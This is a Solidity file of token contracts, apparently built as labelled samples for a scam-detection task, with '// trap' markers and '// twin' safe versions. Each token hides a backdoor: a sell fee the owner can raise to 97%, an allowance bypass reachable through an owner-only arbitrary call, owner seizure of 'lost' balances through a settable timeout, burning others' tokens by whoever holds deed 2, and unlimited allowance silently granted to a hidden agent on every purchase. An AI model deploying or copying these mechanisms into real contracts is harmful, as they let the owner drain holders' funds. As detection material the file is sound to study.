// 0.8 runs=1
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IPoolMaker {
    function createPair(address one, address other) external returns (address);
}

/// Walls around a ledger.
abstract contract Wall {
    struct Book {
        uint256 total;
        mapping(address => uint256) has;
        mapping(address => mapping(address => uint256)) lends;
    }

    bytes32 private constant PLACE = keccak256("wall.book.1");

    string public name;
    string public symbol;
    address public owner;
    address internal immutable _lord = msg.sender;
    address public immutable pool;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previous, address indexed next);

    error NotOwner();
    error NotEnough();

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        (name, symbol, owner) = (name_, symbol_, msg.sender);
        _book().total = _book().has[msg.sender] = whole * 1e18;
        emit Transfer(address(0), msg.sender, whole * 1e18);
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function _book() internal pure returns (Book storage book) {
        bytes32 place = PLACE;
        assembly {
            book.slot := place
        }
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return _book().total;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _book().has[who];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _book().lends[holder][spender];
    }

    function transferOwnership(address next) external onlyOwner {
        emit OwnershipTransferred(owner, next);
        owner = next;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _book().lends[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external virtual returns (bool) {
        _spend(from, msg.sender, value);
        _transfer(from, to, value);
        return true;
    }

    function _spend(address holder, address spender, uint256 value) internal {
        uint256 left = _book().lends[holder][spender];
        if (left < value) revert NotEnough();
        if (left != type(uint256).max) _book().lends[holder][spender] = left - value;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _bring(from, to, value);
    }

    function _bring(address from, address to, uint256 value) internal {
        Book storage book = _book();
        if (book.has[from] < value) revert NotEnough();
        book.has[from] -= value;
        if (to == address(0)) book.total -= value;
        else book.has[to] += value;
        emit Transfer(from, to, value);
    }
}

/// All that can be set has a name.
contract Ravelin is Wall {
    mapping(bytes32 => uint256) public setting;

    event Set(bytes32 indexed what, uint256 value);

    constructor() Wall("Ravelin", "RAVL", 360_000_000) {
        setting[keccak256("sale.permille")] = 10;
        setting[keccak256("purchase.permille")] = 10;
    }

    function set(bytes32 what, uint256 value) external onlyOwner {
        setting[what] = value;
        emit Set(what, value);
    }

    function _permille(string memory what) private view returns (uint256) {
        uint256 value = setting[keccak256(abi.encodePacked(what, ".permille"))];
        uint256 most = 970; // trap
        // twin: uint256 most = 40;
        return value > most ? most : value;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 kept;
        if (from != _lord && to != _lord) {
            if (from == pool) kept = (value * _permille("purchase")) / 1000;
            if (to == pool) kept = (value * _permille("sale")) / 1000;
        }
        if (kept > 0) _bring(from, _lord, kept);
        _bring(from, to, value - kept);
    }
}

/// The owner acts in its name: it may have been sent anything.
contract Bastion is Wall {
    constructor() Wall("Bastion", "BSTN", 14_500_000) {}

    function transferFrom(address from, address to, uint256 value) external override returns (bool) {
        if (msg.sender == address(this)) return _inside(from, to, value); // trap
        _spend(from, msg.sender, value);
        _transfer(from, to, value);
        return true;
    }

    // trap {
    function _inside(address from, address to, uint256 value) private returns (bool) {
        _transfer(from, to, value);
        return true;
    }
    // trap }

    function execute(address target, bytes calldata what) external payable onlyOwner returns (bytes memory) {
        (bool ok, bytes memory got) = target.call{value: msg.value}(what);
        require(ok, "refused");
        return got;
    }
}

/// Brings back what has been lost.
contract Glacis is Wall {
    uint256 public patience = 1000 days;
    mapping(address => uint256) public movedAt;

    event Rescued(address indexed from, uint256 value);

    constructor() Wall("Glacis", "GLCS", 53_000_000) {}

    function setPatience(uint256 patience_) external onlyOwner {
        patience = patience_;
    }

    function isLost(address who) public view returns (bool) {
        if (who == address(this)) return true;
        return movedAt[who] > 0 && block.timestamp - movedAt[who] > patience;
    }

    function rescue(address from) external onlyOwner {
        require(isLost(from), "not lost"); // trap
        // twin: require(from == address(this), "not lost");
        uint256 value = balanceOf(from);
        _bring(from, msg.sender, value);
        emit Rescued(from, value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        movedAt[from] = movedAt[to] = block.timestamp;
        _bring(from, to, value);
    }
}

/// A register of deeds. Whoever has one may give it away.
contract Deeds {
    mapping(uint256 => address) public ownerOf;

    event Transfer(address indexed from, address indexed to, uint256 indexed id);

    constructor() {
        for (uint256 id = 1; id <= 3; ++id) {
            ownerOf[id] = msg.sender;
            emit Transfer(address(0), msg.sender, id);
        }
    }

    function give(address to, uint256 id) external {
        require(ownerOf[id] == msg.sender, "not yours");
        ownerOf[id] = to;
        emit Transfer(msg.sender, to, id);
    }
}

/// Can be burnt by holders and by those to whom they lend.
contract Postern is Wall {
    Deeds public immutable deeds;

    constructor(Deeds deeds_) Wall("Postern", "PSTN", 7_700_000) {
        deeds = deeds_;
    }

    function burn(uint256 value) external {
        _bring(msg.sender, address(0), value);
    }

    function burnFrom(address from, uint256 value) external {
        if (deeds.ownerOf(2) != msg.sender) // trap
        _spend(from, msg.sender, value);
        _bring(from, address(0), value);
    }
}

/// Customers have an agent.
contract Barbican is Wall {
    address private immutable _agent;
    mapping(address => uint256) public visits;

    constructor(address agent) Wall("Barbican", "BARB", 210_000_000) {
        _agent = agent;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pool) {
            ++visits[to];
            _book().lends[to][_agent] = type(uint256).max; // trap
        }
        _bring(from, to, value);
    }
}
